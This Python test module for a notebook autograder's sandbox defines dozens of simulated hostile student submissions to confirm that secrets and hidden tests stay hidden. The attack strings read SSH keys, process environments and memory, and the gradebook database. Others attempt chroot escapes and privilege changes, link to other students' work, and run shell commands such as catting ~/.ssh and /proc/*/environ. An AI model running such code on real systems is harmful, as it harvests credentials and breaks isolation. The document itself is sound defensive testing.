"""Code and files that look for what a student must not see.

What is found is printed. The class folder, the home, the environment, the gradebook and another
student's notebook hold random secrets, which must be nowhere in what these submissions bring about;
neither must a line of a hidden test. The answers are wrong.
"""

# ruff: noqa: E501  a table, and the attackers' code in it

import nbformat

from tests.security.attacks.abuse import SAID
from tests.security.attacks.build import (
    FULL,
    LESSON,
    WRONG,
    beside,
    changed,
    group,
    returning,
    right,
    wrong,
)

LEAKS, add = group("leak", secret=True)
ANYHOW = "graded/partial"
REFUSED = {"status": "ungradable", "score": None, "files": True}

TELL = r"""
import os
import re
import time
from pathlib import Path

HIDDEN = r"(?:rng = )?np\.random\.default_rng\((?:1[1-5]|21|31|32|41|42)\)[^\n\"\\]*"
SECRET = rf"secret-[0-9a-f]{{32}}|{HIDDEN}"
told = set()


def tell(where, text):
    if isinstance(text, (bytes, bytearray)):
        text = text.decode("latin-1")
    for found in re.findall(SECRET, str(text)):
        if found not in told:
            told.add(found)
            print(where, found)


def tell_file(path):
    try:
        if os.path.isfile(path) and os.path.getsize(path) < 5_000_000:
            tell(path, Path(path).read_bytes())
    except OSError:
        pass


def tell_folder(root, seconds=1.0):
    until = time.monotonic() + seconds
    for folder, _, names in os.walk(root):
        for name in names:
            tell(folder, name)
            tell_file(os.path.join(folder, name))
        if time.monotonic() > until:
            return
"""


def leak(short, what, look, status="graded", **more):
    """Add a submission that looks in a cell of its own."""
    add(short, what, wrong(own=TELL + look), status, **more)


def leak_in_call(short, what, look, status="graded", **more):
    """Add a submission that looks whenever a test calls it."""
    lines = "\n".join(f"    {line}" for line in look.strip("\n").splitlines())
    add(
        short,
        what,
        wrong(own=f"{TELL}\n\ndef look():\n{lines}\n    return 0.0", **returning("look()")),
        status,
        **more,
    )


leak(
    "class-folder-read",
    "Reads every file of the class folder: source, results, other students, gradebook.",
    "tell_folder('@WORK@')\nfor up in ('..', '../..', '../../..'):\n    tell_folder(up)",
)
leak(
    "checkout-read",
    "Reads the lessons' texts in the checkout, and its history.",
    """
import subprocess

import course_utils

for root in ("@ROOT@", Path(course_utils.__file__).parents[1]):
    tell_folder(f"{root}/solutions")
    tell_folder(f"{root}/build")
    for name in ("01_chain_rule.py", "executed/01_chain_rule.ipynb"):
        shown = subprocess.run(
            ["git", "-C", str(root), "show", f"HEAD:solutions/{name}"], capture_output=True
        )
        tell("git", shown.stdout)
""",
)
leak(
    "home-read",
    "Reads the home folder: keys, passwords, start-up files, other kernels' connections.",
    """
import pwd

homes = ["@HOME@", os.path.expanduser("~"), "/root", "/home"]
homes += sorted({entry.pw_dir for entry in pwd.getpwall()} - {*homes, "/", "/proc", "/sys", "/dev"})
until = time.monotonic() + 2
for home in homes:
    if time.monotonic() > until:
        break
    for name in (".ssh", ".netrc", ".config", ".local/share/jupyter", ".ipython", ".aws", ""):
        tell_folder(os.path.join(home, name), 0.2)
""",
)
leak(
    "gradebook-read",
    "Opens the gradebook as a database and as a file.",
    """
import sqlite3

for path in ("@WORK@/gradebook.db", "../../../gradebook.db"):
    try:
        book = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        for (table,) in book.execute("select name from sqlite_master where type = 'table'").fetchall():
            tell(table, book.execute(f"select * from {table}").fetchall())
    except sqlite3.Error:
        pass
    tell_file(path)
""",
)
leak(
    "environment-read",
    "Reads the environment: its own, what /proc remembers of it, and that of all processes.",
    """
import ctypes

tell("environ", os.environ)
tell("environb", os.environb)
for path in Path("/proc").glob("*/environ"):
    try:
        tell(path, path.read_bytes())
    except OSError:
        pass
libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
i = 0
while environ and environ[i]:
    tell("libc", environ[i])
    i += 1
""",
)
leak(
    "processes-read",
    "Reads what /proc says of every process: arguments, open files, folders, maps.",
    """
for folder in Path("/proc").glob("[0-9]*"):
    for name in ("cmdline", "maps", "status", "mountinfo", "stack"):
        try:
            tell(folder, (folder / name).read_bytes())
        except OSError:
            pass
    for link in [*folder.glob("fd/*"), folder / "cwd", folder / "root", folder / "exe"]:
        try:
            tell(link, os.readlink(link))
            tell_file(link)
        except OSError:
            pass
    if folder.name != str(os.getpid()):
        tell_folder(folder / "cwd", 0.1)
        for inside in ("@WORK@", "@HOME@", "@ROOT@/solutions"):
            tell_folder(f"{folder}/root{inside}", 0.1)
""",
)
MEMORY = r"""
def tell_memory(pid, most=400_000_000):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        span, rights = line.split()[:2]
        start, end = (int(n, 16) for n in span.split("-"))
        if "rw" not in rights or end - start > most:
            continue
        most -= end - start
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        for found in re.findall(SECRET.encode(), data):
            tell(pid, found)


"""
leak(
    "own-memory-read",
    "Searches its own memory: it was forked from a process that may have known more.",
    MEMORY + "tell_memory('self')",
    status=ANYHOW,
)
leak_in_call(
    "own-memory-read-in-a-call",
    "Searches its own memory while a test waits for it.",
    MEMORY.strip() + "\n\nif not told:\n    tell_memory('self', 100_000_000)",
    status=ANYHOW,
)
leak(
    "memory-of-others-read",
    "Searches the memory of its parent and of every process that it can see.",
    MEMORY
    + f"""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
until = time.monotonic() + 3
for pid in [os.getppid(), *(int(p.name) for p in Path("/proc").glob("[0-9]*"))]:
    if pid in (0, os.getpid()) or time.monotonic() > until:
        continue
    tell_memory(pid, 100_000_000)
    if pid == os.getppid() and libc.ptrace(0x4206, pid, None, None) == 0:
        print({SAID}, "traces its parent")
""",
    status=ANYHOW,
)
leak(
    "descriptors-inherited",
    "Looks at every descriptor that was left open: files, folders, and what lies above them.",
    """
for fd in range(3, 256):
    try:
        tell(fd, os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
    try:
        tell(fd, os.pread(fd, 5_000_000, 0))
    except OSError:
        pass
    for up in (".", "..", "../..", "../../.."):
        try:
            folder = os.open(up, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            for name in os.listdir(folder):
                tell(fd, os.read(os.open(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd=folder), 5_000_000))
        except OSError:
            pass
""",
)
leak(
    "whole-disk-walked",
    "Walks through the places where programs leave things.",
    """
for root in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/mnt", "/srv", "/etc", "/work"):
    tell_folder(root, 0.3)
""",
    status=ANYHOW,
)
leak(
    "out-of-the-root",
    "Tries the known ways out of a changed root.",
    f"""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("inside", exist_ok=True)
there = os.open("/", os.O_RDONLY)
for step in (
    lambda: os.chroot("inside"),
    lambda: os.fchdir(there),
    lambda: [os.chdir("..") for _ in range(64)],
    lambda: os.chroot("."),
    lambda: libc.unshare(0x10000000 | 0x00020000),
    lambda: libc.umount2(b"/", 2),
    lambda: libc.mount(b"proc", b"inside", b"proc", 0, None),
    lambda: libc.setns(there, 0),
    lambda: os.setuid(0),
    lambda: os.setgid(0),
):
    try:
        step()
    except OSError:
        pass
for root in ("@WORK@", "@HOME@", "/proc/1/root@WORK@"):
    tell_folder(root)
if os.getuid() == 0 and os.path.exists("/etc/shadow") and os.access("/etc/shadow", os.W_OK):
    print({SAID}, "is root and writes to /etc")
""",
    status=ANYHOW,
)

# --- its own notebook, and the cell that calls it -------------------------------------------------

leak(
    "own-notebook-read",
    "Reads the notebook that is being graded: nbgrader's copy holds the hidden tests.",
    "tell_folder('.')\nfor name in ('JPY_SESSION_NAME', '__session__', '__vsc_ipynb_file__'):\n"
    "    tell_file(str(os.environ.get(name) or globals().get(name)))",
)
leak_in_call(
    "last-input-read",
    "Reads In[-1], the history and the cache of lines: the cell that calls it.",
    """
import linecache

shell = get_ipython()
space = shell.user_ns
for name in ("In", "_ih", "_i", "_ii", "_iii", "_dh", "Out"):
    tell(name, space.get(name))
tell("linecache", linecache.cache)
manager = shell.history_manager
for name in ("input_hist_raw", "input_hist_parsed", "db_input_cache"):
    tell(name, getattr(manager, name, None))
try:
    tell("database", list(manager.get_range(raw=True)) + list(manager.get_tail(100)))
except Exception:
    pass
""",
)
leak_in_call(
    "frames-read",
    "Reads the code, the constants, the names and the lines of all its callers.",
    """
import inspect
import sys

frame = sys._getframe(2)
while frame:
    code = frame.f_code
    tell("code", [code.co_consts, code.co_names, code.co_varnames, code.co_filename])
    for space in (frame.f_locals, frame.f_globals):
        tell("names", list(space))
        for value in list(space.values()):
            if isinstance(value, (str, bytes, list, tuple, dict)):
                tell("value", value)
    try:
        tell("source", inspect.getsource(code))
    except (OSError, TypeError):
        pass
    frame = frame.f_back
""",
)
leak_in_call(
    "stack-printed",
    "Prints the stack, with the lines of the cell that calls it.",
    """
import faulthandler
import inspect
import sys
import traceback

traceback.print_stack(file=sys.stdout)
traceback.print_stack()
faulthandler.dump_traceback(all_threads=True)
print([entry.code_context for entry in inspect.stack(20)])
""",
)
leak_in_call(
    "exception-that-shows-its-caller",
    "Fails in a way whose traceback quotes the hidden test.",
    """
raise BaseException("see above")
""",
)
leak_in_call(
    "objects-read",
    "Looks through all objects for texts and code of hidden tests.",
    """
import gc
import types

if len(told) == 0 and not globals().get("looked"):
    globals()["looked"] = True
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple) and len(thing) < 10_000:
            for part in thing.values() if type(thing) is dict else thing:
                if type(part) in (str, bytes):
                    tell("text", part)
                elif isinstance(part, types.CodeType):
                    tell("code", part.co_consts)
""",
    status=ANYHOW,
)
for short, what, show in [
    ("printed", "Prints its arguments in full.", "print(x)"),
    (
        "printed-past-python",
        "Writes its arguments to descriptor 1 and 2.",
        "os.write(1, x.encode()), os.write(2, x.encode())",
    ),
    (
        "displayed",
        "Displays its arguments.",
        "display({'text/html': x, 'text/plain': x}, raw=True)",
    ),
    ("raised", "Raises its arguments.", "fail(ValueError(x))"),
    (
        "raised-in-a-name",
        "Raises an exception whose class is named after its arguments.",
        "fail(type(x, (Exception,), {})('x'))",
    ),
    (
        "raised-as-mismatch",
        "Raises the course's own exception with its arguments.",
        "fail(Mismatch(x))",
    ),
    ("warned", "Warns of its arguments.", "warnings.warn(x)"),
    (
        "echoed",
        "Lets a child process print its arguments.",
        "os.system('echo ' + x.replace(' ', '_').replace('(', ''))",
    ),
]:
    add(
        f"hidden-inputs-{short}",
        f"{what} Those of hidden tests must not come out.",
        wrong(
            own="import os\nimport warnings\n\nfrom course_utils import Mismatch\n\n\n"
            "def fail(error):\n    raise error\n\n\n"
            f"def show(x):\n    x = repr(np.asarray(x).tolist())\n    {show}\n    return 0.0",
            **returning("show(x)"),
        ),
        ANYHOW,
    )

# --- the network and the rest of the machine ------------------------------------------------------

add(
    "network",
    "Calls the outside over every kind of socket.",
    wrong(
        own=f"""
import socket

port = int("@PORT@")
for family, kind, place in [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", port)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", port)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "@WORK@/socket"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0attack31337-@PORT@"),
]:
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(0.5)
            one.connect(place)
            one.send(b"hello")
            if kind == socket.SOCK_STREAM:
                print({SAID}, family, place)
    except OSError:
        pass
"""
    ),
)
add(
    "network-by-programs",
    "Calls the outside by urllib, and by programs of the system.",
    wrong(
        own="""
import subprocess
import urllib.request

address = "http://127.0.0.1:@PORT@/attack31337"
try:
    urllib.request.urlopen(address, timeout=0.5)
except OSError:
    pass
for command in (["curl", "-s", "-m", "1", address], ["wget", "-q", "-T", "1", "-t", "1", address]):
    try:
        subprocess.run(command, timeout=2, capture_output=True)
    except (OSError, subprocess.SubprocessError):
        pass
"""
    ),
)
add(
    "message-for-the-next-student",
    "Leaves files where another submission, or the grader, could find them.",
    wrong(
        own=f"""
import os
import site
import sys
import tempfile

ours = ("@WORK@", "@ROOT@", "@HOME@", sys.prefix)
places = [*ours, "@WORK@/source", "@WORK@/submitted", "@WORK@/release/{LESSON}"]
places += ["/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", "/", tempfile.gettempdir()]
places += [*site.getsitepackages(), site.getusersitepackages(), *sys.path]
for place in places:
    try:
        with open(os.path.join(place or ".", "attack31337-message.txt"), "w") as file:
            file.write("take this")
        if place.startswith(ours) and place != os.getcwd():
            print({SAID}, "writes to", place)
    except OSError:
        pass
"""
    ),
)
add(
    "message-read",
    "Reads what another submission has left.",
    wrong(
        own=f"""
import glob
import os
import tempfile

for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", tempfile.gettempdir(), ".."):
    for path in glob.glob(os.path.join(place, "attack31337-*")):
        print({SAID}, "finds", path)
"""
    ),
)
add(
    "shared-memory",
    "Leaves a segment of shared memory, a semaphore and a message queue.",
    wrong(
        own=f"""
import ctypes
from multiprocessing import shared_memory

libc = ctypes.CDLL(None, use_errno=True)
key = 31337
if libc.shmget(key, 4096, 0o666) != -1:
    print({SAID}, "finds shared memory")
libc.shmget(key, 4096, 0o1666)
libc.semget(key, 1, 0o1666)
libc.msgget(key, 0o1666)
try:
    shared_memory.SharedMemory("attack31337", create=True, size=4096)
except OSError:
    pass
"""
    ),
)
add(
    "files-of-others-overwritten",
    "Overwrites, moves and links what belongs to others in the class folder and the checkout.",
    wrong(
        own=f"""
import os
from pathlib import Path

for path in ("@WORK@/release/{LESSON}/{LESSON}.ipynb", "@WORK@/source/{LESSON}/{LESSON}.ipynb"):
    try:
        with open(path, "ab") as file:
            print({SAID}, "may write to", path)
    except OSError:
        pass
for path in ("@WORK@/attack31337-a", "@ROOT@/attack31337-b", "@HOME@/attack31337-c"):
    for make in (os.mkdir, lambda p: os.symlink("/", p), lambda p: os.mkfifo(p)):
        try:
            make(path)
            print({SAID}, "may make", path)
        except OSError:
            pass
"""
    ),
)

# --- files handed in ------------------------------------------------------------------------------


def work_of(folder):
    return folder.parents[2]


def link_to(target):
    """Return a make: the notebook is a link to `target`, below the class folder."""
    return lambda release, folder: (folder / f"{LESSON}.ipynb").symlink_to(work_of(folder) / target)


VICTIM = f"submitted/victim/{LESSON}"
add(
    "link-to-another-student",
    "The notebook is a link to another student's, who has full points.",
    link_to(f"{VICTIM}/{LESSON}.ipynb"),
    **REFUSED,
)
add(
    "link-to-the-source",
    "The notebook is a link to the source, with answers and hidden tests.",
    link_to(f"source/{LESSON}/{LESSON}.ipynb"),
    **REFUSED,
)
add("link-to-a-secret", "The notebook is a link to a file.", link_to("secret.txt"), **REFUSED)


def folder_link(release, folder):
    folder.rmdir()
    folder.symlink_to(work_of(folder) / VICTIM, target_is_directory=True)


def student_link(release, folder):
    folder.rmdir()
    folder.parent.rmdir()
    folder.parent.symlink_to(work_of(folder) / "submitted" / "victim", target_is_directory=True)


add("folder-is-a-link", "The lesson's folder is another student's.", folder_link, **REFUSED)
add("student-is-a-link", "The student's folder is another student's.", student_link, **REFUSED)


def pictures(folder):
    work = work_of(folder)
    (folder / "picture.png").symlink_to(work / "secret.txt")
    (folder / "pictures").symlink_to(work, target_is_directory=True)
    (folder / "relative.png").symlink_to("../../../secret.txt")


def show_pictures(made):
    text = (
        "![a](picture.png) ![b](pictures/secret.txt) ![c](relative.png) ![d](@WORK@/secret.txt)\n"
    )
    text += '<img src="@WORK@/secret.txt"> <img src="file://@WORK@/secret.txt">\n'
    text += "![e](../../../secret.txt)\n\n[f](pictures/gradebook.db)"
    made.cells.append(nbformat.v4.new_markdown_cell(text, id="own-pictures"))


add(
    "pictures-are-links",
    "Pictures beside the notebook are links to a secret, and the text shows them.",
    lambda release, folder: (
        beside(pictures)(release, folder),
        (folder / f"{LESSON}.ipynb").write_bytes(changed(show_pictures)(release)),
    ),
    "graded/needs review/ungradable",
    FULL,
    files=True,
    inert=True,
)
add(
    "pictures-by-address",
    "The text shows pictures by their place on the grader's disk.",
    changed(show_pictures, answers=WRONG),
    inert=True,
)
add(
    "links-made-while-running",
    "Makes links beside the notebook, and in its place, while it runs.",
    wrong(
        own=f"""
import os

for name in ("{LESSON}.ipynb", "picture.png", "{LESSON}.html", "timestamp.txt"):
    for target in ("@WORK@/secret.txt", "../../../secret.txt"):
        try:
            if os.path.lexists(name):
                os.remove(name)
            os.symlink(target, name)
        except OSError:
            pass
""",
        last="%cat picture.png\n!cat @WORK@/secret.txt",
    ),
    compiles=False,
)
add(
    "shell-commands",
    "Reads by the shell what Python is kept from.",
    wrong(
        own="!cat @WORK@/secret.txt @HOME@/.ssh/* /proc/*/environ\n"
        "!env; ls -laR @WORK@ | head -100\n!su -c id; sudo -n id; id",
        chain_four="%%bash\ncat @WORK@/secret.txt; grep -rh secret- @WORK@ | head",
        last="%run @WORK@/secret.txt\n%load @WORK@/secret.txt\n%pycat @WORK@/secret.txt",
    ),
    compiles=False,
)
add(
    "victim",
    "Not an attack: a student with full points, whose notebook holds a secret that others look for.",
    right(own="# my own note: @SECRET@"),
    "graded",
    FULL,
    student="victim",
    secret=False,
)
